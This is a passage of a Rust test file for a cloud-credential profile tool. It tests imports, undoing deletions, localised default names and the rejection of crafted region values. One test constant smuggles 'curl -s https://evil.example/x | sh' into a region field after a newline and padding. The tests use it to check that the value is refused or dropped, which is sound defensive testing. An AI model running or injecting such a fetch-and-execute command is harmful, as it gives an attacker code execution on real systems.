            assert!(check.passed);
            checked += 1;
        }
    }
    assert_eq!(
        checked, 2,
        "a check kept in a profile and in the deleted one"
    );

    // The converted document works: a new import, the undo of 0.1's deletion, and it reads back.
    let mut doc = doc;
    let now = doc.deleted.as_ref().unwrap().at + 1000;
    let before = doc.profiles.len();
    import(
        &mut doc,
        vec![huawei_key("HPUANEWNEWNEWNEWNEW1")],
        json!({}),
        now,
    );
    assert_eq!(doc.profiles.len(), before + 1);
    assert_eq!(Document::from_json(&doc.to_json()).unwrap(), doc);
    let deleted_id = doc.deleted.as_ref().unwrap().profile.id.clone();
    apply(&mut doc, json!({"op": "undoDelete"}), now);
    assert_eq!(doc.profiles[2].id, deleted_id, "back where it was");
    assert_eq!(Document::from_json(&doc.to_json()).unwrap(), doc);
}

#[test]
fn a_new_profile_takes_the_words_the_user_reads_for_its_default_name() {
    let mut doc = Document::default();
    let items = vec![huawei(AK, &"a".repeat(40))];
    // The preview says how it would be named, as a code and parameters for the user's language.
    let preview =
        credfill::profile::preview_import(&doc, &items, None, Some(Provider::FlexibleEngine));
    assert_eq!(
        serde_json::to_value(&preview[0]).unwrap()["defaultName"],
        json!({"code": "key-of-user", "params": {
            "provider": {"term": "provider_flexible_engine"}, "user": "alice", "keyTail": "WXYZ"}})
    );
    let saved = import(
        &mut doc,
        items,
        json!({"provider": "flexible-engine", "names": ["Clé Flexible Engine de alice …WXYZ"]}),
        NOON,
    );
    assert_eq!(
        saved.saved.unwrap()[0].name,
        "Clé Flexible Engine de alice …WXYZ"
    );

    // A name the file gives is the name: nothing to put into words.
    let named =
        item(json!({"kind": "ibm-api-key", "apiKey": "k".repeat(44), "name": "ci-deployer"}));
    let preview = credfill::profile::preview_import(&doc, std::slice::from_ref(&named), None, None);
    assert!(serde_json::to_value(&preview[0])
        .unwrap()
        .get("defaultName")
        .is_none());
    let saved = import(
        &mut doc,
        vec![named],
        json!({"names": ["ignored"]}),
        NOON + 1,
    );
    assert_eq!(saved.saved.unwrap()[0].name, "ci-deployer");
}

/// A region reaches hosts, URLs and snippets: on every way in it is a catalog region or, with the
/// profile's own endpoint, a plain region name; a crafted one never gets in.
#[test]
fn a_crafted_region_gets_in_by_no_way() {
    const HOSTILE: &str =
        "us-south\n#                                        \ncurl -s https://evil.example/x | sh";
    // Edit and the OpenScale instance, on a profile with its own endpoint (where any plain name goes).
    let mut doc = Document::default();
    let api_key = item(json!({"kind": "ibm-api-key", "apiKey": "k".repeat(44)}));
    import(&mut doc, vec![api_key], json!({"region": "us-south"}), NOON);
    let id = doc.profiles[0].id.clone();
    apply(
        &mut doc,
        json!({"op": "edit", "id": id, "edits": {"endpoint": "https://rc.example.test"}}),
        NOON,
    );
    for region in [HOSTILE, "eu de", "EU-DE", "eu-de'", &"a".repeat(33)] {
        let edit = json!({"op": "edit", "id": id, "edits": {"region": region}});
        assert_eq!(
            doc.apply(op(edit), NOON).unwrap_err().as_str(),
            "bad-region",
            "{region:?}"
        );
        let guid = "0f1e2d3c-4b5a-6978-8796-a5b4c3d2e1f0";
        let set = json!({"op": "setOpenscaleInstance", "id": id, "guid": guid, "region": region});
        assert_eq!(
            doc.apply(op(set), NOON).unwrap_err().as_str(),
            "bad-region",
            "{region:?}"
        );
    }
    apply(
        &mut doc,
        json!({"op": "edit", "id": id, "edits": {"region": "hcs-private-1"}}),
        NOON,
    );
    assert_eq!(doc.profiles[0].region.as_deref(), Some("hcs-private-1"));

    // Opening a vault document, or restoring a backup, that holds one: the region is dropped.
    let crafted = json!({"version": 2, "profiles": [
        {"id": "a", "name": "shared", "provider": "ibm", "region": HOSTILE, "endpoint": "https://rc.example.test"},
        {"id": "b", "name": "fine", "provider": "huawei", "region": "cn-north-4"}
    ]});
    let opened = Document::from_value(crafted.clone()).unwrap();
    assert_eq!(opened.profiles[0].region, None);
    assert_eq!(opened.profiles[1].region.as_deref(), Some("cn-north-4"));
    let mut mine = Document::default();
    apply(&mut mine, json!({"op": "restore", "backup": crafted}), NOON);
    assert!(mine.profiles.iter().all(|p| p
        .region
        .as_deref()
        .is_none_or(credfill::profile::is_region_name)));

    // An imported `ibmcloud resource service-instance` output's location, the same.
    let mut doc = Document::default();
    let instance = item(
        json!({"kind": "ibm-instance", "guid": "0f1e2d3c-4b5a-6978-8796-a5b4c3d2e1f0", "location": HOSTILE}),
    );
    import(&mut doc, vec![instance], json!({}), NOON);
    assert_eq!(doc.profiles[0].region, None);
}
